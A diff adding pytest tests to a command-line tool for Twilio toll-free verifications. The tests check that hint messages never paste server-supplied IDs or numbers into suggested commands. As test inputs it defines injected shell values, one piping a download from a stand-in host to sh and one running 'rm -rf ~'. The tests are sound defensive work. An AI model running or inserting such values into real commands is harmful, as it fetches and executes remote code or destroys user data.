@@ -311,6 +311,51 @@ def test_delete_asks_on_a_terminal_and_needs_yes_in_a_script(msgsvc, profile, ht
     assert_request(sent(httpserver)[-1], "DELETE", f"{VERIFICATIONS}/{HH}")
 
 
+# What a hostile server may call a record's sid and number: never pasted into a hint's command.
+HOSTILE_SID = "HH1; curl x.example|sh"
+HOSTILE_NUMBER = "+18005550100 $(rm -rf ~)"
+
+
+def test_a_closed_rejections_hint_pastes_no_sid_or_number_that_is_not_one(msgsvc, profile, httpserver, verification_file):
+    closed = verification(sid=HOSTILE_SID, tollfree_phone_number=HOSTILE_NUMBER, status="TWILIO_REJECTED", edit_allowed=False)
+    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="GET").respond_with_json(closed)
+    result = msgsvc("tollfree", "update", HH, "--from-file", str(verification_file), "--edit-reason", "fixed")
+    assert (result.code, result.out) == (1, "")
+    assert result.err == (f"msgsvc: verification {HOSTILE_SID} of {HOSTILE_NUMBER} cannot be edited: Twilio does not allow "
+                          "editing it (edit_allowed is false)\n"
+                          "hint: delete it and submit again: msgsvc tollfree delete VERIFICATION && "
+                          "msgsvc tollfree create NUMBER --from-file FILE\n")
+    assert [r.method for r in sent(httpserver)] == ["GET"]
+
+
+def test_a_deletes_note_pastes_no_number_that_is_not_one(msgsvc, profile, httpserver):
+    record = verification(tollfree_phone_number=HOSTILE_NUMBER)
+    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="GET").respond_with_json(record)
+    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="DELETE").respond_with_data("", status=204)
+    done = msgsvc("tollfree", "delete", HH, "--yes")
+    assert (done.code, done.out) == (0, ""), done.err
+    assert done.err == (f"Deleted verification {HH} of {HOSTILE_NUMBER}; submit it again with: "
+                        "msgsvc tollfree create NUMBER --from-file FILE\n")
+
+
+def test_get_on_a_terminal_says_to_wait_for_the_verification_as_typed(msgsvc, profile, httpserver):
+    record = verification(tollfree_phone_number=HOSTILE_NUMBER)
+    httpserver.expect_oneshot_request(f"{VERIFICATIONS}/{HH}", method="GET").respond_with_json(record)
+    shown = msgsvc("tollfree", "get", HH, tty=True)
+    assert shown.code == 0 and f"  {HOSTILE_NUMBER}\n" in shown.out
+    assert shown.err == f"{HOSTILE_NUMBER} is PENDING_REVIEW: in review. Follow it with: msgsvc tollfree wait {HH}\n"
+
+
+def test_a_number_named_by_its_sid_without_a_record_pastes_no_number_that_is_not_one(msgsvc, profile, httpserver):
+    httpserver.expect_oneshot_request(f"/2010-04-01/Accounts/{ACCOUNT_SID}/IncomingPhoneNumbers/{PN}.json",
+                                      method="GET").respond_with_json(incoming(number=HOSTILE_NUMBER))
+    httpserver.expect_oneshot_request(VERIFICATIONS, method="GET").respond_with_json(page("verifications", []))
+    result = msgsvc("tollfree", "get", PN)
+    assert (result.code, result.out) == (3, "")
+    assert result.err == (f"msgsvc: {HOSTILE_NUMBER} has no toll-free verification: it cannot send to the US and Canada (30032)\n"
+                          "hint: submit one: msgsvc tollfree create NUMBER --from-file verification.toml\n")
+
+
 # --- wait -------------------------------------------------------------------------------------
 
 
